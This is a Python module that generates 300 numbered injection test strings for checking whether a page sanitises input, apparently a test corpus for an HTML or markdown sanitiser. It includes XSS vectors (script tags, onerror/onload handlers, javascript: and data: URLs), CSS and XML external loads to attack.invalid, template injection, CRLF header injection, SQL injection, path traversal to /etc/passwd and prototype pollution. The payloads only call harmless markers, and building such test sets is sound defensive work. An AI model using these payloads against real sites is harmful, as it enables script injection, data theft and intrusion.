"""Strings that would run a script, leave the page or break a form if a page let them through, made from parts.

Each says which one it was by calling `fired(NUMBER)`, by `alert(NUMBER)` or by asking for `//attack.invalid/NUMBER`.
"""

CALLS = ["fired(%d)", "alert(%d)", "self['fi'+'red'](%d)", "(0,fired)(%d)", "fired`%d`", "top.fired(%d)"]

# Elements that run something by themselves as soon as they are on a page.
ELEMENTS = [
    "<script>CALL</script>", "<ScRiPt>CALL</sCrIpT>", "<script\n>CALL</script\t>", "<script/x>CALL</script>",
    "<img src=x onerror=CALL>", '<img src="x" onerror="CALL">', "<IMG SRC=x ONERROR=CALL//", "<img/src=x/onerror=CALL>",
    "<image src=x onerror=CALL>", "<svg onload=CALL>", "<svg/onload=CALL>", "<svg><script>CALL</script></svg>",
    "<svg><animate onbegin=CALL attributeName=x dur=1s>", "<svg><set onbegin=CALL attributeName=x>",
    "<svg><image href=x onerror=CALL>", "<math><mtext><img src=x onerror=CALL></mtext></math>",
    "<iframe srcdoc='<script>parent.CALL</script>'></iframe>", "<iframe src='javascript:parent.CALL'></iframe>",
    "<object data='x' onerror=CALL></object>", "<embed src='x' onerror=CALL>", "<video src=x onerror=CALL></video>",
    "<video><source onerror=CALL></video>", "<audio src=x onerror=CALL>", "<input autofocus onfocus=CALL>",
    "<textarea autofocus onfocus=CALL>", "<select autofocus onfocus=CALL></select>", "<details open ontoggle=CALL>x</details>",
    "<body onload=CALL>", "<body onpageshow=CALL>", "<style onload=CALL></style>", "<link rel=stylesheet href=x onerror=CALL>",
    "<p style='animation:x' onanimationstart=CALL><style>@keyframes x{}</style>",
    "<p contenteditable autofocus onfocus=CALL tabindex=1>x</p>", "<noscript><p title='</noscript><img src=x onerror=CALL>'>",
    "<template><script>CALL</script></template><img src=x onerror=CALL>", "<img src=x:x onerror=CALL>",
]

# What breaks out of a place in a page, and then runs.
BREAKS = [
    '"><%s>', "'><%s>", "</textarea><%s>", "</title><%s>", "</script><%s>", "</style><%s>", "--><%s>", "]]><%s>", "</option></select><%s>",
    "</template><%s>", "\u201d><%s>", '\\"><%s>', "&quot;><%s>", "%%22%%3E<%s>", "</a></li></ol><%s>", "</dialog><%s>",
]
BROKEN_OUT = ["script>CALL</script", "img src=x onerror=CALL", "svg onload=CALL", "input autofocus onfocus=CALL"]

# Attributes for elements that are there already.
ATTRIBUTES = [
    '" autofocus onfocus="CALL" x="', "' autofocus onfocus='CALL' x='", " autofocus onfocus=CALL ", '" onmouseover="CALL" style="position:fixed;inset:0',
    "` autofocus onfocus=CALL `", '" onpointerenter="CALL', '" formaction="javascript:CALL', '" src=x onerror="CALL',
    '" style="animation-name:x" onanimationend="CALL', '"\tautofocus\tonfocusin\t=\t"CALL',
]

# Addresses.
ADDRESSES = [
    "javascript:CALL", "JaVaScRiPt:CALL", "java\tscript:CALL", "java\nscript:CALL", "\x01javascript:CALL".replace("\x01", "\u00a0"),
    "javascript&colon;CALL", "javascript:/*x*/CALL", "data:text/html,<script>parent.CALL</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg#CALL", "vbscript:CALL", "//attack.invalid/CALL",
    "https://attack.invalid/CALL", "\\\\attack.invalid\\CALL", "https:attack.invalid/CALL", "[x](javascript:CALL)",
    "![x](https://attack.invalid/CALL)", "[x](data:text/html,<script>CALL</script>)", "<a href='javascript:CALL'>x</a>",
    "<form action='javascript:CALL'><button>x</button></form>", "<base href='https://attack.invalid/CALL/'>",
    "<meta http-equiv=refresh content='0;url=https://attack.invalid/CALL'>", "<link rel=prefetch href='https://attack.invalid/CALL'>",
]

# Style sheets, drawings, data in scripts, templates, headers, directions, and forms that would be misread.
OTHERS = [
    "<style>@import 'https://attack.invalid/CALL';</style>", "<p style=\"background:url(https://attack.invalid/CALL)\">x</p>",
    "</style><style>*{background:url(https://attack.invalid/CALL)}</style>", "x;background:url(https://attack.invalid/CALL)",
    "expression(CALL)", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><script>CALL</script></svg>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=CALL></foreignObject></svg>", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'https://attack.invalid/CALL'>]><x>&y;</x>",
    '";CALL;//', "';CALL;//", "`;CALL;//", '"}];CALL;//', '\\";CALL;//', "</script><script>CALL//", "<!--<script>CALL", "\u2028CALL\u2029", "${CALL}", "#{CALL}",
    "{{CALL}}", "{{{CALL}}}", "{{&CALL}}", "{{#frame}}CALL{{/frame}}", "{{> desk-layout}}CALL", "{{=<% %>=}}<%CALL%>", "<%=CALL%>", "[[CALL]]", "{%CALL%}",
    "{{constructor.constructor('CALL')()}}", "x\r\nBcc: CALL@attack.invalid", "x\nSubject: CALL", "x%0d%0aSet-Cookie: CALL=1", "x\r\n\r\n<script>CALL</script>",
    "\u202eCALL\u202c", "\u2067CALL\u2069", "\u200fCALL\u200e", "\u202e<script>CALL</script>", "\ufeff<script>CALL</script>", "\u061c<img src=x onerror=CALL>",
    "'; DROP TABLE story; --CALL", "' OR '1'='1' /*CALL*/", "../../etc/passwd#CALL", "=CALL+1", "@CALL", "-1+CALL|x", "+ADw-script+AD4-CALL+ADw-/script+AD4-",
    "\uff1cscript\uff1eCALL\uff1c/script\uff1e", "&lt;script&gt;CALL&lt;/script&gt;", "&#60;script&#62;CALL&#60;/script&#62;", "%3Cscript%3ECALL%3C/script%3E",
    "\\u003cscript\\u003eCALL\\u003c/script\\u003e", "__proto__[fired]=CALL", "<plaintext>CALL", "<xmp><script>CALL</script>", "<marquee onstart=CALL>x</marquee>",
    "<dialog open onclose=CALL><form method=dialog></form></dialog>", "<a id=fired name=fired href=x>CALL</a>", "<form id=editor><input name=token value=CALL></form>",
]
WANTED = 300


def patterns():
    yield from ELEMENTS
    yield from (around % inside for around in BREAKS for inside in BROKEN_OUT)
    yield from ATTRIBUTES
    yield from ADDRESSES
    yield from OTHERS
    # And again, inside what people would write, to be taken for harmless.
    yield from (f"Port Elm {element} says" for element in ELEMENTS)
    yield from (f"**{element}**" for element in ELEMENTS[:20])
    yield from (f"# {element}" for element in ELEMENTS[20:])
    yield from (f"[{element}](https://example.com)" for element in ELEMENTS)
    yield from (f"> {element}" for element in ELEMENTS[:12])


def attack_strings():
    """300 of them, each another: its place in the list is the number that it calls with."""
    found = []
    for number, pattern in enumerate(patterns()):
        if number == WANTED:
            break
        found.append(pattern.replace("CALL", CALLS[number % len(CALLS)] % number))
    if len(set(found)) != WANTED:
        raise ValueError(f"There are {len(set(found))} different strings, not {WANTED}.")
    return found
